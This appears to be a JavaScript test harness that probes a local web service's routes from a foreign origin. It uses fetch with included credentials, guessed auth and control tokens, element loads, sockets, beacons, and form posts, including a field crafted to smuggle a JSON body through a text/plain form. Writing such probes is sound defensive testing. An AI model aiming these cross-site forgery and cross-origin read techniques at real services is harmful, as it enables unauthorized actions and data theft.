// What a page can try on another origin. Given: the base URL, and [method, path] of every route.
// Returns what could be read; everything else is for the server's own records to tell.
const [base, routes] = given;
const bodies = ["{}", '{"credits": 1000000}', new Blob(["{}"]), new URLSearchParams({ a: "{}" }), undefined];
const json = { "Content-Type": "application/json" };
const secret = { Authorization: "Bearer nmv_usr_guessed", "X-Client-Id": "page" };
const control = { "X-Nemolocal-Control-Token": "guessed" };
const read = [];
const waits = [];

async function tryFetch(url, how) {
  try {
    const reply = await fetch(url, { credentials: "include", redirect: "follow", ...how });
    if (reply.type !== "opaque") read.push([url, how.method, await reply.text()]);
  } catch {}
}

function tryElement(name, attribute, url) {
  waits.push(new Promise((resolve) => {
    const element = document.createElement(name);
    element.onload = element.onloadeddata = () => {
      if (name !== "iframe" && name !== "object") read.push([url, name, "loaded"]);
      let inside = null;
      try { inside = element.contentDocument?.body?.innerText; } catch {}
      if (inside) read.push([url, name, inside]);
      resolve();
    };
    element.onerror = resolve;
    if (name === "link") element.rel = "stylesheet";
    element[attribute] = url;
    document.body.append(element);
    if (name === "object") setTimeout(resolve, 500);
  }));
}

function tryForm(url, method, kind) {
  waits.push(new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${Math.random()}`;
    document.body.append(frame);
    const form = document.createElement("form");
    form.action = url;
    form.method = method;
    form.enctype = kind;
    form.target = frame.name;
    const field = document.createElement("input");
    field.name = '{"token_id": null, "x": "';
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    frame.onload = () => resolve();
    form.submit();
  }));
}

function trySocket(url, make) {
  waits.push(new Promise((resolve) => {
    try {
      const socket = make(url);
      socket.onmessage = (event) => read.push([url, "message", String(event.data)]);
      socket.onopen = () => { read.push([url, "socket", "open"]); resolve(); };
      socket.onerror = socket.onclose = () => { socket.close(); resolve(); };
    } catch { resolve(); }
  }));
}

for (const [method, path] of routes) {
  const url = base + path;
  if (method === "GET") {
    for (const name of ["img", "script", "iframe", "video"]) tryElement(name, "src", url);
    tryElement("link", "href", url);
    tryElement("object", "data", url);
    tryForm(url, "get", "text/plain");
    trySocket(url, (to) => new EventSource(to, { withCredentials: true }));
    await tryFetch(url, { mode: "no-cors" });
    await tryFetch(url, { mode: "cors" });
    await tryFetch(url, { mode: "cors", headers: secret });
    await tryFetch(url, { mode: "cors", headers: control });
  } else {
    for (const body of bodies) {
      await tryFetch(url, { method, mode: "no-cors", body });
      await tryFetch(url, { method, mode: "cors", body });
    }
    await tryFetch(url, { method, mode: "cors", body: "{}", headers: json });
    await tryFetch(url, { method, mode: "no-cors", body: "{}", headers: json });
    await tryFetch(url, { method, mode: "cors", body: "{}", headers: { ...json, ...secret } });
    await tryFetch(url, { method, mode: "cors", body: "{}", headers: { ...json, ...control } });
    for (const kind of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) tryForm(url, "post", kind);
    navigator.sendBeacon(url, "{}");
    try { navigator.sendBeacon(url, new Blob(["{}"], { type: "application/json" })); } catch {}
  }
  trySocket(url.replace("http", "ws"), (to) => new WebSocket(to));
}
await Promise.all(waits);
return read;
